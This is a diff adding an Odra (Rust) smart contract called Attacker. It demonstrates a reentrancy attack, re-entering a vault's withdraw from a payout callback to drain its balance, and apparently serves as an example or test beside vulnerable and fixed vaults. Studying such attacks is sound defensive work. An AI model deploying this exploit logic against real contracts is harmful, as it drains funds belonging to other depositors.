@@ -0,0 +1,59 @@
+use odra::casper_types::U512;
+use odra::prelude::*;
+use odra::{Address, ContractRef, Var};
+
+/// The entry points the attacker uses, shared by both vaults.
+#[odra::external_contract]
+pub trait Vault {
+    fn withdraw(&mut self);
+    fn total_balance(&self) -> U512;
+}
+
+#[odra::odra_error]
+/// Errors that may occur during the contract execution.
+pub enum Error {
+    /// Only the vault under attack can notify the attacker.
+    NotVault = 1,
+}
+
+#[odra::module(errors = Error)]
+/// A contract that drains a vault by withdrawing again each time the vault notifies it of a
+/// withdrawal. It needs a deposit in the vault to start with.
+pub struct Attacker {
+    /// Address of the vault under attack.
+    vault: Var<Address>,
+}
+
+#[odra::module]
+impl Attacker {
+    pub fn init(&mut self, vault: Address) {
+        self.vault.set(vault);
+    }
+
+    /// Withdraws the attacker's deposit, starting the chain of withdrawals.
+    pub fn attack(&mut self) {
+        self.vault_ref().withdraw();
+    }
+
+    /// Called by the vault after each payout, while the vault is still in its `withdraw`.
+    pub fn on_withdrawal(&mut self, amount: U512) {
+        if self.env().caller() != self.vault() {
+            self.env().revert(Error::NotVault);
+        }
+        // The vault still counts the deposit, so withdrawing again pays it out again
+        let mut vault = self.vault_ref();
+        if vault.total_balance() >= amount {
+            vault.withdraw();
+        }
+    }
+}
+
+impl Attacker {
+    fn vault(&self) -> Address {
+        self.vault.get().unwrap_or_revert(&self.env())
+    }
+
+    fn vault_ref(&self) -> VaultContractRef {
+        VaultContractRef::new(self.env(), self.vault())
+    }
+}